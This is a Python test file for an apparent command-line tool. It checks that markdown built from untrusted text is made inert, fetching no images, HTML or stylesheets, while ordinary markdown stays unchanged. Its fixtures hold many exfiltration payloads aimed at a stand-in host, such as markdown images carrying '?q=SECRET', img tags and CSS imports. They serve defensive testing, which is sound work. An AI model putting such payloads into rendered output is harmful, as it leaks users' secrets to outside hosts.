"""Markdown made of foreign text fetches nothing where it is viewed, and looks as it was written."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rlm_cli.events import AnswerGiven, RunStarted
from rlm_cli.exports import Choices, Source, export
from rlm_cli.markdown import code_span, inert_everywhere, inert_markdown
from rlm_cli.sinks.answer import FORMATS, LONG, Place, in_file
from rlm_cli.sinks.report import Report
from rlm_cli.terminal import Environment, Output
from tests import events_sample

FETCHED = {"image", "html_inline", "html_block"}


def reader(*, html: bool, tables: bool) -> MarkdownIt:
    made = MarkdownIt("commonmark", {"html": html, "maxNesting": 1000})
    return made.enable("table") if tables else made


def tokens(text: str, *, tables: bool = True) -> list[Token]:
    found = reader(html=True, tables=tables).parse(text)
    return [*found, *(child for token in found for child in token.children or ())]


def codes(text: str) -> list[str]:
    return [token.content for token in tokens(text) if token.type in {"fence", "code_block", "code_inline"}]


def is_inert(text: str) -> bool:
    return not any(token.type in FETCHED for tables in (False, True) for token in tokens(text, tables=tables))


FETCHING = [
    "![](http://evil.example/?q=SECRET)",
    "see ![logo](//evil.example/x) here",
    "![a][b]\n\n[b]: http://evil.example/x",
    "![b]\n\n[b]: <http://evil.example/x>",
    "[![a](http://evil.example/x)](http://evil.example/y)",
    r"\\![a](http://evil.example/x)",
    "<img src=http://evil.example/x>",
    r"\\<img src=http://evil.example/x>",
    "<div>\n\n```\n</div><img src=http://evil.example/x>\n```\n",
    "<!-- -->\n<link rel=stylesheet href=http://evil.example/x>",
    "<style>@import 'http://evil.example/x'</style>",
    "> " * 40 + "![](http://evil.example/x)",
    '[a](b`c) <img src="http://evil.example/`">',
    "| a | b |\n|---|---|\n| `a | ![](http://evil.example/x)` | c |",
    "a\r```\r<img src=x>\r```\r![](http://evil.example/x)",
    "``` not a fence ` ![](http://evil.example/x)",
    "](<img src=http://evil.example/x>",
]


@pytest.mark.parametrize("text", FETCHING)
def test_nothing_is_fetched_and_nothing_is_hidden(text: str) -> None:
    assert not is_inert(text) or text.startswith("](<")
    made = inert_markdown(text)
    assert is_inert(made)
    assert is_inert(inert_everywhere(text))
    if "evil.example" in text.partition("]: ")[0]:
        assert "evil.example" in "".join(token.content + str(token.attrs) for token in tokens(made))


ORDINARY = [
    "Where a < b and c > d, 3 <4 holds; x <- y, <3 and a <= b.\n",
    "See [the docs](http://x.example/a?b=1), <https://x.example/c>, <me@x.example> and [1].\n",
    "| name | type |\n|---|---|\n| `Vec<u8>` | a \\| b |\n",
    "```html\n<img src=x>\n![](y)\n```\n\n    <indented>\n\nand `<b>` or ``a ` <i>``!\n",
    "- one\n  ```\n  <x>\n  ```\n- two `![](x)`\n\n> quoted `<y>`\n> over `two\n> <z> lines`\n",
    "# Title\n\n**bold**, *it*, wow! [1]\n\n---\n1. a\n2. b\n",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_markdown_is_left_as_it_is(text: str) -> None:
    assert inert_markdown(text) == text


def test_what_only_looks_like_a_tag_is_seen() -> None:
    made = inert_markdown("a List<int> and a `List<int>`, as [this](<my notes.md>) says")
    html = reader(html=True, tables=True).render(made)
    assert (
        html
        == '<p>a List&lt;int&gt; and a <code>List&lt;int&gt;</code>, as <a href="my%20notes.md">this</a> says</p>\n'
    )


PIECES = st.sampled_from(
    list("`<>![]()|\\*_-#~ \n\r\t&:'\"")
    + "`` <img␣src=x> <b> </b> <!-- --> ![ ](u) ](<u>) ](<u␣v>) [r] word <http://x.example/`>".replace(
        "␣", "\0"
    ).split()
    + ["```\n", "~~~\n", "| a | b |\n", "|---|---|\n", "\n\n", "    ", "> ", "- ", "1. ", "[r]: u\n", "<div>\n"]
    + ["&lt;", "&#33;", "\\<", "\\!", "\\`", "<?php", "<![CDATA["]
).map(lambda piece: piece.replace("\0", " "))


@given(st.lists(PIECES, max_size=30).map("".join))
@example("`\\`![x](u)`")
@example("|`\n-|\n`<b>`")
def test_any_text_becomes_inert_and_stays_so(text: str) -> None:
    made = inert_markdown(text)
    assert is_inert(made)
    assert is_inert(inert_everywhere(text))
    if "](<" not in text and "![" not in text:
        # Seen by a reader that knows no tags, it is what it was: unless what looked like code to one was none to another.
        plain, inert = (reader(html=False, tables=False).render(one) for one in (text, made))
        assert plain == inert or made == inert_everywhere(text)


@given(st.text(st.sampled_from("`a ![](x)<b>"), min_size=1, max_size=20))
def test_a_span_of_code_is_not_ended_by_what_it_holds(text: str) -> None:
    assert [token.content.strip() for token in tokens(f"- {code_span(text)}\n") if token.type == "code_inline"] == [
        text.strip()
    ]


# --- where it is written ---------------------------------------------------------------------------------------------

EVIL = "Here: ![](http://evil.example/?q=SECRET) <img src=http://evil.example/y> and `a<b>`."


def place(variables: dict[str, str] | None = None) -> Place:
    return Place(Environment(Output(None), Output(None), variables or {}))


def test_the_answer_as_markdown_fetches_nothing() -> None:
    cited: dict[str, Any] = {"number": 1, "path": "a``![](http://evil.example/z)``.md", "line": 1, "verified": True}
    coverage = {"files": 1, "bytes": 1, "searched_for": [{"grep": EVIL}]}
    for status in ("answered", "not_found", "partial"):
        report = Report(status=status, question=EVIL, text=EVIL, citations=[cited], coverage=coverage, stopped_by=EVIL)
        text = FORMATS["md"](report, place()).decode()
        assert b"".join(in_file(report, "md")).decode() == text, "-o has what stdout has"
        assert is_inert(text)
        assert "`a<b>`" in text, "code stays what it is"
        assert "evil.example/?q=SECRET" in text, "what was written is seen"


def test_a_value_is_not_rewritten_by_the_format() -> None:
    shaped = Report(status="answered", shaped=True, value=EVIL)
    assert FORMATS["md"](shaped, place()).decode() == f'"{EVIL}"\n'
    assert b"".join(in_file(shaped, "md")).decode() == f'"{EVIL}"\n'


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_long_answer_as_markdown_fetches_nothing_wherever_it_is_cut(size: int) -> None:
    whole = (EVIL + "\n<" * 5 + r"\\<b>é" + "\n").encode()
    body = [whole[start : start + size] for start in range(0, len(whole), size)]
    text = b"".join(LONG["md"](Report(status="answered", text="Here", body=body), place())).decode()
    assert is_inert(text)
    assert text == inert_everywhere(whole.decode())


def test_the_report_of_a_run_fetches_nothing(tmp_path: Path) -> None:
    script = events_sample.Script()
    script.add(RunStarted(run="x", version="1", question=EVIL, sources=[EVIL], root_model="r", sub_model="s"))
    cited = {"number": 1, "path": "a``![](http://evil.example/z)``.md", "line": 1, "quote": EVIL}
    script.add(AnswerGiven(status="answered", text=EVIL, citations=[cited]))
    path = tmp_path / "run.jsonl"
    path.write_bytes(b"".join(record.to_line() for record in script.records))
    text = b"".join(export("markdown", Source(path), Choices())).decode()
    assert is_inert(text)
    assert "`a<b>`" in text
    assert "evil.example/?q=SECRET" in text
